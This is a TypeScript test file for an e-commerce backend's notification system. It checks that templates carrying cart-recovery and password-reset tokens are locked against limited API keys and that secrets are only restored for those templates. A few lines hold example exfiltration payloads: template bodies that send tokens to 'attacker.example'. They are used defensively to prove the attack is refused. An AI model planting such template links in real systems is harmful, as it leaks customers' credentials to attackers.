import { env } from 'cloudflare:workers';
import { and, eq, sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { carts, events, notifications } from '../../src/db/schema';
import { notificationTemplates } from '../../src/db/schema/notifications';
import { requestPasswordReset } from '../../src/modules/auth/password-reset';
import { createApiKey } from '../../src/modules/api-keys/api-keys.service';
import { abandonIdleCarts } from '../../src/modules/carts/abandonment';
import { contextReads } from '../../src/notifications/context';
import { DEFAULT_TEMPLATES } from '../../src/notifications/defaults';
import { outgoingMessage } from '../../src/notifications/outgoing';
import { notificationRow } from '../../src/notifications/planner';
import { INERT, REDACTED, unredact } from '../../src/notifications/redaction';
import { resetCause } from '../../src/notifications/reset-token';
import type { TemplateData } from '../../src/notifications/render';
import { type Trigger, TRIGGERS } from '../../src/notifications/triggers';
import { disableIfFailingTooLong } from '../../src/webhooks/endpoint-health';
import { placeTestOrder } from '../commerce/order-fixtures';
import { adminKey, api, createProduct, db, expectError, insertUser, uid } from '../helpers';
import { insertEndpoint } from '../webhooks/receiver-setup';

let admin: string;
beforeAll(async () => {
  admin = await adminKey();
});

/** The variables of one outbox event's real context, read as the store-events consumer reads them. */
async function outboxData(type: string, data: Record<string, unknown>): Promise<TemplateData> {
  const event = { id: `evt_${uid()}`, type, data };
  const reads = contextReads(db(), [event]);
  const results = await db().batch(reads.statements as never);
  const context = reads.contexts(results).get(event.id);
  expect(context, type).toBeTruthy();
  return context!.data;
}

/** A customer's cart, found abandoned by the real sweep: its cart.abandoned event's data. */
async function abandonedCartEvent() {
  const variantId = (await createProduct(admin, { price: 9, stock: 10 })).variants[0].id;
  const customer = await insertUser();
  const id = (await api('/api/carts', { method: 'POST', key: customer.token, json: {} })).body.data.id as string;
  await api('/api/carts/me/lines', { method: 'POST', key: customer.token, json: { variantId, quantity: 1 } });
  await db()
    .update(carts)
    .set({ updatedAt: new Date(Date.now() - 2 * 3_600_000).toISOString() })
    .where(eq(carts.id, id));
  await abandonIdleCarts(env);
  const [event] = await db()
    .select()
    .from(events)
    .where(and(eq(events.type, 'cart.abandoned'), sql`json_extract(${events.data}, '$.cartId') = ${id}`));
  return event!.data;
}

/** The variables of a return event of an order's first line. */
async function returnData(type: string): Promise<TemplateData> {
  const { order, lines } = await placeTestOrder({ key: admin });
  return outboxData(type, { orderId: order.id, returnId: 'ret_1', resolution: 'Worn', lines: [{ orderLineId: lines[0]!.id, quantity: 1 }] });
}

/** The data of the message an internal trigger wrote. */
async function storedData(id: string | null | undefined): Promise<TemplateData> {
  expect(id).toBeTruthy();
  const [row] = await db().select().from(notifications).where(eq(notifications.id, id!));
  return row!.data as TemplateData;
}

/**
 * Every trigger's variables as its messages are really rendered with. Typed by Trigger: a new
 * trigger does not compile until it is given here, and so checked below.
 */
const realData: Record<Trigger, () => Promise<TemplateData>> = {
  'order.placed': async () => outboxData('order.placed', { orderId: (await placeTestOrder({ key: admin })).order.id }),
  'order.cancelled': async () => outboxData('order.cancelled', { orderId: (await placeTestOrder({ key: admin })).order.id }),
  'payment.completed': async () => outboxData('payment.completed', { orderId: (await placeTestOrder({ key: admin })).order.id, paymentId: 'pay_1', amount: 10, currency: 'USD' }),
  'shipment.shipped': async () => {
    const { order, lines } = await placeTestOrder({ key: admin });
    return outboxData('shipment.shipped', { orderId: order.id, shipmentId: 'ship_1', carrier: 'UPS', trackingNumber: '1Z', lines: [{ orderLineId: lines[0]!.id, quantity: 1 }] });
  },
  'payment.refunded': async () =>
    outboxData('payment.refunded', {
      orderId: (await placeTestOrder({ key: admin })).order.id,
      paymentId: 'pay_1',
      refundId: 're_1',
      amount: 5,
      currency: 'USD',
      destination: 'payment',
    }),
  'return.approved': async () => returnData('return.approved'),
  'return.rejected': async () => returnData('return.rejected'),
  'return.received': async () => returnData('return.received'),
  'gift_card.issued': async () => outboxData('gift_card.issued', { giftCardId: 'gc_1', amount: 25, currency: 'USD', recipientEmail: 'friend@example.test', recipientName: null }),
  'customer.registered': async () => outboxData('customer.registered', { customerId: (await insertUser()).user.id }),
  'inventory.low': async () => {
    const product = await createProduct(admin, { price: 5, stock: 1 });
    return outboxData('inventory.low', { productId: product.id, variantId: product.variants[0].id, sku: 'SKU', quantity: 1, threshold: 5 });
  },
  'cart.abandoned': async () => outboxData('cart.abandoned', await abandonedCartEvent()),
  password_reset: async () => storedData(await requestPasswordReset(db(), env, (await insertUser()).user.email)),
  webhook_endpoint_disabled: async () => {
    const staff = await insertUser({ role: 'admin' });
    const endpoint = await insertEndpoint({ url: `https://hooks.example.test/${uid()}`, failingSince: '2020-01-01T00:00:00.000Z' });
    expect(await disableIfFailingTooLong(db(), { endpoint, problem: 'HTTP 500', disableAfterHours: 72, now: new Date() })).toBe(true);
    const [row] = await db()
      .select()
      .from(notifications)
      .where(and(eq(notifications.template, 'webhook_endpoint_disabled'), eq(notifications.recipient, staff.user.email)));
    return storedData(row?.id);
  },
};

/**
 * The variables whose value is a credential: those holding the mark the send puts it back into, or
 * that mark made inert because the trigger did not list the variable (messages written with
 * notificationRow: no fixture value here says either).
 */
const credentialsIn = (data: TemplateData) =>
  Object.entries(data)
    .filter(([, value]) => typeof value === 'string' && (unredact(value, 'REAL-TOKEN') !== value || value.includes(INERT)))
    .map(([name]) => name)
    .sort();

describe('templates whose messages carry a credential', () => {
  it('are exactly the triggers whose real messages hold one, each naming the variables that do', async () => {
    expect(Object.keys(realData).sort()).toEqual(Object.keys(TRIGGERS).sort());
    for (const trigger of Object.keys(TRIGGERS) as Trigger[]) {
      const data = await realData[trigger]();
      expect(credentialsIn(data), trigger).toEqual([...TRIGGERS[trigger].credentials].sort());
    }
    // Both credentials the store sends today are among them.
    expect(TRIGGERS['cart.abandoned'].credentials.length).toBeGreaterThan(0);
    expect(TRIGGERS.password_reset.credentials.length).toBeGreaterThan(0);
  });

  it("refuses notifications:write the cart reminder, which would send the customer's recovery link anywhere", async () => {
    const { key } = await createApiKey(db(), { name: 'messages', permissions: ['notifications:read', 'notifications:write'] });
    const path = '/api/notifications/templates/tmpl_cart_reminder_email';
    const [before] = await db().select().from(notificationTemplates).where(eq(notificationTemplates.id, 'tmpl_cart_reminder_email'));
    const steal = { body: 'https://attacker.example/steal?cart={{cartId}}&token={{token}}' };
    expectError(await api(path, { method: 'PATCH', key, json: steal }), 403, 'AUTHORIZATION_ERROR');
    expectError(await api(path, { method: 'PATCH', key, json: { active: false } }), 403, 'AUTHORIZATION_ERROR');
    expectError(await api(`${path}/reset`, { method: 'POST', key }), 403, 'AUTHORIZATION_ERROR');
    const [after] = await db().select().from(notificationTemplates).where(eq(notificationTemplates.id, 'tmpl_cart_reminder_email'));
    expect(after).toEqual(before);
    // It still previews it (sample data, no real token), and edits an ordinary template.
    expect((await api(`${path}/preview`, { method: 'POST', key, json: steal })).status).toBe(200);
    expect((await api('/api/notifications/templates/tmpl_welcome_email', { method: 'PATCH', key, json: { subject: 'Welcome!' } })).status).toBe(200);

    // An admin ('*') may change and reset it.
    const edited = await api(path, { method: 'PATCH', key: admin, json: { subject: 'Your cart at {{storeName}}' } });
    expect(edited.status).toBe(200);
    expect(edited.body.data.subject).toBe('Your cart at {{storeName}}');
    expect((await api(`${path}/reset`, { method: 'POST', key: admin })).body.data.subject).toBe('{{storeName}}: your cart is waiting');
  });

  it('refuses every template of every such trigger to a caller without *, and no other template', async () => {
    const { key } = await createApiKey(db(), { name: 'messages-all', permissions: ['notifications:*'] });
    for (const template of DEFAULT_TEMPLATES) {
      const credentialed = TRIGGERS[template.event as Trigger].credentials.length > 0;
      const res = await api(`/api/notifications/templates/${template.id}/reset`, { method: 'POST', key });
      expect(res.status, template.id).toBe(credentialed ? 403 : 200);
    }
  });

  it('are the only ones whose messages get a token put back when sent, whatever their cause or data says', async () => {
    // An ordinary template, which notifications:write changes, written as if for a reset and a cart reminder.
    const ordinary = DEFAULT_TEMPLATES.find((t) => t.id === 'tmpl_order_confirmation_email')!;
    const row = notificationRow({
      template: { ...ordinary, body: `https://attacker.example/?t=${REDACTED}` },
      to: 'someone@example.test',
      skip: null,
      userId: null,
      data: { recoveryId: 'crec_1' },
      cause: resetCause('pwr_1'),
      eventId: 'evt_1',
    });
    expect(await outgoingMessage(env, row)).toEqual({ subject: row.subject, body: row.body, bodyHtml: row.bodyHtml, secret: null });
    const reset = DEFAULT_TEMPLATES.find((t) => t.id === 'tmpl_password_reset_email')!;
    const sent = await outgoingMessage(
      env,
      notificationRow({ template: reset, to: 'someone@example.test', skip: null, userId: null, data: { token: REDACTED }, cause: resetCause('pwr_1'), eventId: null }),
    );
    expect(sent).toMatchObject({ secret: expect.any(String) });
  });
});
